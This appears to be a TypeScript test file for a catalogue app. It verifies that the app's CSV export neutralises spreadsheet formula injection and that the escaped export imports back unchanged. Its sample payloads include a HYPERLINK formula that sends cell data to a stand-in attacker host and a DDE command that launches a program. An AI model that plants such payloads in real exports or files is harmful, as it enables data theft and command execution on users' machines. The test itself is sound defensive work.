import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestUmgebung } from '../../testing/testApp.ts';
import { EXPORT_SPALTEN } from './loesungen.schemas.ts';

/**
 * Finding 6 of "Trust before growth": the CSV export of the public catalogue wrote cells such as
 * `=HYPERLINK(…)`, `+1+1`, `-2+3`, `@SUM(1,2)` as they were, so a spreadsheet evaluated them.
 */
let env: TestUmgebung;
beforeAll(async () => {
  env = await createTestApp();
});
afterAll(async () => env?.close());

const ANGRIFF = {
  hyperlink: '=HYPERLINK("https://evil.example/?d="&A1,"Hier klicken")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1,2)',
  vollbreit: '＝1+1',
  dde: "=cmd|' /C calc'!A0",
};

const spalte = (name: (typeof EXPORT_SPALTEN)[number]) => EXPORT_SPALTEN.indexOf(name);

async function csvZeilen(): Promise<string[][]> {
  const r = await (await env.als('anonym')).get('/api/loesungen/export?format=csv');
  expect(r.status).toBe(200);
  return parse(r.body, { bom: true, relax_column_count: false });
}

describe('CSV-Export des Katalogs: keine Formeln', () => {
  it('entschärft Zellen, die ein Tabellenprogramm auswerten würde; Zahlenspalten bleiben Zahlen; Import stellt den Text wieder her', async () => {
    const t = await env.als('transferstelle');
    const zeilen = [
      { externalId: 'csv-1', title: ANGRIFF.hyperlink, summary: ANGRIFF.plus, problem: ANGRIFF.minus, approach: ANGRIFF.at, evidence: ANGRIFF.vollbreit, evidenceStep: 5, originName: ANGRIFF.dde, tags: ['=A1', 'harmlos'] },
      { externalId: '=csv-2', title: "'=schon mit Apostroph", summary: "'s-Hertogenbosch liegt in den Niederlanden", problem: '- Aufzählung\n- zweiter Punkt' },
    ];
    const imp = await t.post('/api/loesungen/import', zeilen);
    expect(imp.status, imp.body).toBe(200);
    // Leading whitespace or control characters cannot come in through the API (fields are trimmed); write them directly.
    await env.db.k
      .insertInto('loesung')
      .values({ external_id: 'csv-3', titel: ' =1+1', zusammenfassung: '\t=1+1', problem: '\r=1+1', ansatz: '\n@SUM(1,2)', wirkung_text: '\u3000＋1', herkunft_text: '\tharmlos', status: 'veroeffentlicht' })
      .execute();

    const csv = await csvZeilen();
    expect(csv[0]).toEqual([...EXPORT_SPALTEN]);
    const z1 = csv.find((z) => z[spalte('externalId')] === 'csv-1')!;
    expect(z1[spalte('title')]).toBe(`'${ANGRIFF.hyperlink}`);
    expect(z1[spalte('summary')]).toBe(`'${ANGRIFF.plus}`);
    expect(z1[spalte('problem')]).toBe(`'${ANGRIFF.minus}`);
    expect(z1[spalte('approach')]).toBe(`'${ANGRIFF.at}`);
    expect(z1[spalte('evidence')]).toBe(`'${ANGRIFF.vollbreit}`);
    expect(z1[spalte('origin')]).toBe(`'${ANGRIFF.dde}`);
    expect(z1[spalte('tags')]).toBe("'=A1;harmlos");
    expect(z1[spalte('evidenceStep')]).toBe('5'); // a numeric column stays a number
    const z2 = csv.find((z) => z[spalte('externalId')] === "'=csv-2")!;
    expect(z2[spalte('title')]).toBe("''=schon mit Apostroph");
    expect(z2[spalte('summary')]).toBe("'s-Hertogenbosch liegt in den Niederlanden"); // not a formula: unchanged
    expect(z2[spalte('problem')]).toBe("'- Aufzählung\n- zweiter Punkt");
    const z3 = csv.find((z) => z[spalte('externalId')] === 'csv-3')!;
    expect([z3[spalte('title')], z3[spalte('summary')], z3[spalte('problem')], z3[spalte('approach')], z3[spalte('evidence')], z3[spalte('origin')]]).toEqual([
      "' =1+1", "'\t=1+1", "'\r=1+1", "'\n@SUM(1,2)", "'\u3000＋1", "'\tharmlos",
    ]);
    // Every cell of the file: none starts (after blanks) with a formula character.
    for (const zeile of csv.slice(1)) {
      for (const zelle of zeile) expect(zelle, zelle).not.toMatch(/^[\s\u3000]*[=+\-@＝＋－＠]/u);
    }

    // Round trip: the neutralised export imports again without changes.
    await env.db.k.deleteFrom('loesung').where('external_id', '=', 'csv-3').execute();
    const r = await (await env.als('anonym')).get('/api/loesungen/export?format=csv');
    const wieder = await t.post('/api/loesungen/import', { format: 'csv', daten: r.body });
    expect(wieder.status, wieder.body).toBe(200);
    expect(wieder.json()).toMatchObject({ gesamt: 2, neu: 0, aktualisiert: 0, unveraendert: 2 });
    const titel = await env.db.k.selectFrom('loesung').select(['external_id', 'titel', 'herkunft_text']).where('external_id', 'in', ['csv-1', '=csv-2']).orderBy('external_id').execute();
    expect(titel).toEqual([
      { external_id: '=csv-2', titel: "'=schon mit Apostroph", herkunft_text: null },
      { external_id: 'csv-1', titel: ANGRIFF.hyperlink, herkunft_text: ANGRIFF.dde },
    ]);
  });

  it('JSON-Export bleibt unverändert (kein Tabellenformat)', async () => {
    const liste = (await (await env.als('anonym')).get('/api/loesungen/export?format=json')).json() as { externalId: string; title: string }[];
    expect(liste.find((z) => z.externalId === 'csv-1')?.title).toBe(ANGRIFF.hyperlink);
  });
});
